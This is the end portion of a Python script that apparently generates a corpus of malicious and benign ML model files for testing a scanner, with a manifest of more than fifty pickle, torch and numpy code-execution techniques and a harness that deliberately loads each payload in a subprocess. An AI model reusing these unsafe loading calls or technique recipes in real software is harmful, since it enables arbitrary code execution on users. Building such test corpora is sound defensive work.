        "pickle",
        "pickle.dumps of tensors (each embeds a torch file loaded by torch.storage._load_from_bytes)",
        lambda p: p.write_bytes(pickle.dumps({"w": sd["fc.weight"], "b": sd["fc.bias"]})),
    )
    add(
        "weights.safetensors",
        "safe",
        "safetensors",
        "safetensors.torch.save_file",
        lambda p: save_file(sd, str(p)),
    )
    add("model.onnx", "safe", "onnx", "ONNX graph with initializers", lambda p: _onnx(p))
    add(
        "array.npy",
        "safe",
        "numpy",
        "numeric .npy",
        lambda p: np.save(p, np.arange(6, dtype=np.float32).reshape(2, 3)),
    )
    add(
        "object_array.npy",
        "safe",
        "numpy",
        ".npy object array of plain values",
        lambda p: np.save(p, np.array([1, "two", 3.0], dtype=object), allow_pickle=True),
    )
    add(
        "arrays.npz",
        "safe",
        "numpy-npz",
        "np.savez_compressed",
        lambda p: np.savez_compressed(p, w=np.ones(3), b=np.zeros(2)),
    )
    add("exported.pt2", "safe", "torch-export", "torch.export.save", lambda p: p.write_bytes(_pt2_bytes()))
    return entries


def _onnx(path: Path) -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.ones((3, 4), dtype=np.float32), "fc.weight")
    b = numpy_helper.from_array(np.zeros(3, dtype=np.float32), "fc.bias")
    node = helper.make_node("Gemm", ["x", "fc.weight", "fc.bias"], ["y"], transB=1)
    graph = helper.make_graph(
        [node],
        "tiny",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])],
        [w, b],
    )
    onnx.save(helper.make_model(graph), str(path))


# -- entry points -------------------------------------------------------------------------------------
def build(
    directory: str | os.PathLike[str],
    marker_dir: str | os.PathLike[str] | None = None,
    *,
    benign: bool = True,
) -> list[dict[str, Any]]:
    """Write the corpus into ``directory`` and return the manifest entries (also written as manifest.json).

    Args:
        directory: output folder (created).
        marker_dir: where payloads would create their marker files (default: ``directory``).
        benign: also write the benign files (needs torch, numpy, safetensors, onnx).
    """
    root = Path(directory)
    (root / "malicious").mkdir(parents=True, exist_ok=True)
    (root / "benign").mkdir(parents=True, exist_ok=True)
    payloads = Payloads(Path(marker_dir) if marker_dir is not None else root)
    try:
        import torch  # noqa: F401

        torch_available = True
    except ImportError:
        torch_available = False
    entries: list[dict[str, Any]] = []
    for name, technique, container, trigger, ref, builder in _malicious(payloads, torch_available):
        (root / "malicious" / name).write_bytes(builder())
        entries.append(
            {
                "file": f"malicious/{name}",
                "kind": "malicious",
                "expected": "dangerous",
                "technique": technique,
                "container": container,
                "trigger": trigger,
                "ref": ref,
                "marker": payloads.marker(_marker_id(name)),
            }
        )
    if benign:
        entries += _benign(root / "benign")
    (root / "manifest.json").write_text(json.dumps(entries, indent=2) + "\n")
    return entries


_MARKER_IDS = {
    "os_system.pkl": "os_system", "posix_system_proto0.pkl": "posix_proto0", "subprocess_call.pkl": "subprocess",
    "builtin_eval_py2name.pkl": "eval", "builtins_exec_stack_global.pkl": "exec", "getattr_import_chain.pkl": "getattr",
    "memo_overwrite_stack_global.pkl": "memo", "stack_global_computed_module.pkl": "computed",
    "dotted_name_argparse.pkl": "dotted", "functools_partial.pkl": "partial", "attrgetter_importlib.pkl": "attrgetter",
    "methodcaller_import.pkl": "methodcaller", "pkgutil_resolve_name.pkl": "pkgutil", "pydoc_locate.pkl": "pydoc",
    "nested_pickle_loads.pkl": "pickle_loads", "marshal_function.pkl": "marshal_code", "timeit_code_string.pkl": "timeit",
    "cprofile_run.pkl": "cprofile", "code_interpreter_runcode.pkl": "runcode", "ext_opcode.pkl": "ext",
    "inst_opcode.pkl": "inst", "obj_opcode.pkl": "obj", "uuid_get_command_stdout.pkl": "uuid",
    "logging_filehandler.pkl": "filehandler", "io_fileio.pkl": "fileio", "builtins_open.pkl": "open",
    "numpy_runstring.pkl": "runstring", "build_monkeypatch.pkl": "build", "payload_then_garbage.pkl": "garbage",
    "truncated_after_reduce.pkl": "truncated", "stacked_second_pickle.pkl": "stacked",
    "legacy_sysinfo_payload.pt": "legacy_sysinfo", "legacy_object_payload.pt": "legacy_object",
    "torchzip_data_pkl.pt": "torchzip", "safetensors_pickle_polyglot.pt": "st_polyglot", "legacy_tar_format.pt": "tar", "torchzip_misleading_extension.json": "misleading_ext", "bare_pickle_as_bin.bin": "bare_bin",
    "torchzip_bad_crc.pt": "bad_crc", "torchzip_name_mismatch.pt": "name_mismatch",
    "torchzip_duplicate_member.pt": "duplicate", "torchzip_hidden_member.pt": "hidden", "zip_in_zip.zip": "zip_in_zip",
    "pickle_zip_polyglot.pt": "polyglot", "npy_object_payload.npy": "npy", "npz_object_payload.npz": "npz",
    "torchscript_constants_payload.pt": "torchscript", "pt2_nested_payload.pt2": "pt2", "collect_env_run.pt": "collect_env", "embedded_torch_load.pkl": "embedded_load",
    "safetensors_polyglot_long_constant.pt": "st_long", "rebuild_from_type_forwards_load.pkl": "rebuild_forward",
    "randomstate_ctor_forwards_load.pkl": "randomstate_forward", "legacy_tar_storage_views.pt": "tar_views",
    "npy_object_dtype_by_name.npy": "npy_object_name", "torchzip_uppercase_data_pkl.pt": "uppercase_pkl", "long_constant_first.bin": "long_first", "numpy_dtypes_alias_load.pkl": "dtype_alias",
    "tar_pickle_polyglot.pt": "tar_polyglot",
}  # fmt: skip


def _marker_id(name: str) -> str:
    return _MARKER_IDS[name]


_TRIGGER_CODE = r"""
import io, pickle, sys, zipfile
path, trigger = sys.argv[1], sys.argv[2]
def member(name):
    with zipfile.ZipFile(path) as zf:
        infos = [i for i in zf.infolist() if i.filename == name or i.filename.endswith("/" + name)]
        return zf.read(infos[-1])
if trigger == "pickle":
    pickle.load(open(path, "rb"))
elif trigger == "pickle-all":
    f = open(path, "rb")
    while True:
        pickle.load(f)
elif trigger == "torch":
    import torch
    torch.load(path, weights_only=False)
elif trigger == "numpy":
    import numpy as np
    obj = np.load(path, allow_pickle=True)
    if hasattr(obj, "files"):
        [obj[k] for k in obj.files]
elif trigger.startswith("member:"):
    pickle.loads(member(trigger[7:]))
elif trigger.startswith("nested-torch:"):
    import torch
    torch.load(io.BytesIO(member(trigger[13:])), weights_only=False)
"""


def verify(directory: str | os.PathLike[str], entries: list[dict[str, Any]]) -> int:
    """Load each malicious file as its trigger says (in a subprocess) and check its marker appears."""
    failed = 0
    for e in entries:
        if e["kind"] != "malicious":
            continue
        marker = Path(e["marker"])
        if marker.exists():
            marker.unlink()
        subprocess.run(
            [sys.executable, "-c", _TRIGGER_CODE, str(Path(directory) / e["file"]), e["trigger"]],
            capture_output=True,
            timeout=120,
            cwd=str(directory),
        )
        ok = marker.exists()
        failed += not ok
        print(f"{'RAN ' if ok else 'NOT RUN'}  {e['trigger']:<34} {e['file']}")
        if ok:
            marker.unlink()
    print(f"{failed} payload(s) did not run")
    return 1 if failed else 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("directory")
    parser.add_argument("--marker-dir", default=None)
    parser.add_argument("--no-benign", action="store_true", help="skip the benign files (no torch needed)")
    parser.add_argument(
        "--verify", action="store_true", help="run every payload in a subprocess (never in tests)"
    )
    args = parser.parse_args(argv)
    entries = build(args.directory, args.marker_dir, benign=not args.no_benign)
    mal = sum(e["kind"] == "malicious" for e in entries)
    print(f"wrote {mal} malicious and {len(entries) - mal} benign files to {args.directory}")
    return verify(args.directory, entries) if args.verify else 0


if __name__ == "__main__":
    sys.exit(main())
